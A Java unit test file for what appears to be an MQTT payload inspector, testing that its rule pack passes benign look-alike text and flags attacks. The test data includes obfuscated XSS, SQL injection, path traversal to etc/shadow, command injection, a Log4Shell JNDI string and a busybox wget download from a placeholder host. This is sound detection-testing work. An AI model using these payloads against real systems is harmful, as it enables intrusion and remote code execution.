package io.mqttsentinel.pattern;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.mqttsentinel.schemas.Action;
import io.mqttsentinel.schemas.Envelope;
import io.mqttsentinel.schemas.Finding;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What the shipped pack lets pass although it looks like an attack, and what it still finds. */
final class HardCasesTest {

  private final PatternInspector inspector = ShippedRules.inspector();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"room\":\"Store <A>\",\"note\":\"<b>filter</b> dirty\"}",
        "{\"alert\":\"choose 'North', not 'South' -- then confirm\"}",
        "{\"alert\":\"state='idle' and step='4'\"}",
        "{\"alert\":\"2 > 1 and 1 < 3\"}",
        "{\"alert\":\"level sank; set the limit by hand\"}",
        "{\"alert\":\"<alarm zone='2'>door</alarm>\"}",
        "valve closed; start of the next cycle",
        "load_scene.load_file(\"evening.dsl\")",
        "worker (call 2) (flags = 0004, done)",
        "<<< Player >>> ready",
        "def __init__(self, pin):",
        "% Invalid input detected at '^' marker.",
        "Uplink: Enable\nIP address 192.0.2.7\nPing Pass Count: 2",
        "{\"topics\":[\"_/_/things/live/events\",\"_/_/things/twin/events\"]}",
        "type=USER_LOGIN msg='op=login exe=\"/usr/sbin/sshd\" hostname=?'",
        "{\"mode\":\"WiFi\",\"kind\":\"LoRa\",\"id\":\"3F2A91\",\"code\":\"262728\"}",
        "{\"place\":\"48\u00b008\u203214\u2033 N\"}",
      })
  void wordsAndSignsOfAttacksAloneAreNoFinding(String text) {
    assertEquals(List.of(), findings(text).stream().map(Finding::getRuleId).toList());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET /latest/meta-data/hostname 200 0.01 s",
        "reading configuration file /etc/xinetd.d/echo [file=/etc/xinetd.d/echo]",
        "; Set the parity of the port to NONE",
        "|Echo<br>over a divider |GPIO 4 |",
        "ON <trigger> DO <command> [ENDON | BREAK]",
        "Invoke-RestMethod -Method GET -Uri http://192.0.2.7/state",
        "Get-Process | Where-Object {$_.Id -gt 5}",
        "JavaScript: the basics",
        "choose \"a\" || \"b\"",
        "{% set p = printer.configfile.config['mcp4018 pot'].scale %}",
        "{% include note.html content='Do not unplug' %}",
        "opened jar:file:/opt/app/lib.jar!/conf",
      })
  void consolesAndLogsAreNotKeptBack(String text) {
    Action strongest = Envelope.strongest(findings(text));
    assertTrue(strongest.compareTo(Action.FLAG) <= 0, text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "q=prompt;q(4)",
        "with(document)write(URL)",
        "(document)[\"cookie\"]",
        "alert(0x2a)",
        "..%uEFC8etc%uEFC8shadow",
        "..2f..2f..2fvar2flog",
        "??%5c??%5cetc%5cshadow",
        "{\"cn\":\"\\u005c28\"}",
        "mail:2.5.13.4:=x",
        "un$-ame+-a",
        "wge$()t 192.0.2.3",
        "for %f in (a,b) do type %f",
        "bash -c 'sync'",
        "7;drop readings --",
        "(sin(binary('7'))) --",
        "ord(mid(version(),1,1))",
        "+ SLEEP(10) + '",
        "' or '1\u2032='1",
        "hi\"\") or (\"\"a\"\"=\"\"a",
        "<!-- see the link below -->",
        "<h1>changed</h1>",
        "{\"cn\":\"Kikq\"}",
        "2a2928",
        "QU5EIDE9MQ==",
        "JTJBJTI5JTI5JTI1MDA=",
        "{\"q\":\"e3s3Kjd9fQ\"}",
        "{\"q\":\"7b7b372a377d7d\"}",
        "data:text/plain;base64,fGlk",
        "{\"py/object\":\"m.C\"}",
        "$\\{$\\{::-j\\}$\\{::-n\\}$\\{::-d\\}$\\{::-i\\}:$\\{::-l\\}dap://192.0.2.3/x}",
      })
  void lessUsualAttacksAreFound(String text) {
    assertFalse(findings(text).isEmpty(), text);
  }

  @Test
  void bytesThatAreNoTextMatchNothingByChance() {
    Random random = new Random(20);
    byte[] noise = new byte[1000];
    for (int i = 0; i < 500; i++) {
      random.nextBytes(noise);
      List<Finding> findings = inspector.inspect(TrialMessage.of("devices/a", noise));
      assertEquals(List.of(), findings.stream().map(Finding::getRuleId).toList());
    }
  }

  @Test
  void longMatchesAndRulesForBinaryDataHoldAmongNoise() {
    Random random = new Random(21);
    byte[] noise = new byte[400];
    random.nextBytes(noise);
    byte[] call = "/bin/busybox wget http://192.0.2.4/a".getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(call, 0, noise, 200, call.length);
    assertFalse(inspector.inspect(TrialMessage.of("devices/a", noise)).isEmpty());
    random.nextBytes(noise);
    byte[] object = HexFormat.of().parseHex("aced000573720008");
    System.arraycopy(object, 0, noise, 0, object.length);
    List<Finding> found = inspector.inspect(TrialMessage.of("devices/a", noise));
    assertEquals(
        List.of("serialized_java"), found.stream().map(Finding::getRuleId).distinct().toList());
  }

  private List<Finding> findings(String text) {
    byte[] payload = text.getBytes(StandardCharsets.UTF_8);
    return inspector.inspect(TrialMessage.of("devices/a", payload));
  }
}
